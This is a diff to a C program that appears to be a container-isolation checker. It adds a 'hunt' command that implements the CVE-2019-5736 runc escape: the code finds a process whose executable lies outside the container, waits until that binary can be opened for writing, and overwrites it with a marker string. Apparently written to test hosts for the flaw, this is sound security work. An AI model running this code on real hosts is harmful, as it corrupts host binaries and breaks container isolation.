@@ -111,6 +111,41 @@ static int guards(const char *path) {
     return 0;
 }
 
+/* Waits for a process that is not of this root, holds on to its program, and writes to it once it has ended
+ * (CVE-2019-5736). Says what became of that; ends by itself after a while. */
+static int hunt(void) {
+    struct stat own, other;
+    stat("/proc/self/exe", &own);
+    say("hunting", 0);
+    for (time_t end = time(NULL) + 10; time(NULL) < end;) {
+        DIR *list = opendir("/proc");
+        struct dirent *entry;
+        while ((entry = readdir(list))) {
+            char path[300];
+            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+            int held = atoi(entry->d_name) > 0 ? open(path, O_PATH) : -1;
+            if (held < 0)
+                continue;
+            /* What is in this root is of its file system, or of no interest. */
+            if (fstat(held, &other) == 0 && (other.st_dev != own.st_dev)) {
+                snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+                int fd = -1;
+                for (int i = 0; i < 3000 && fd < 0; i++, usleep(1000)) {
+                    fd = open(path, O_WRONLY);
+                    if (fd < 0 && errno != ETXTBSY)
+                        break;
+                }
+                say("overwrite", fd < 0 ? -1 : write(fd, "overwritten", 11));
+                return 0;
+            }
+            close(held);
+        }
+        closedir(list);
+    }
+    printf("nothing\n");
+    return 0;
+}
+
 /* What a process takes over from the one that made it. */
 static int look(void) {
     char text[PATH_MAX];
@@ -184,6 +219,8 @@ int main(int count, char **words) {
         return user_namespace();
     if (!strcmp(what, "guards") && count == 3)
         return guards(words[2]);
+    if (!strcmp(what, "hunt"))
+        return hunt();
     if (!strcmp(what, "look"))
         return look();
     /* Takes away what the config of its mount forbids, if the kernel lets it. */
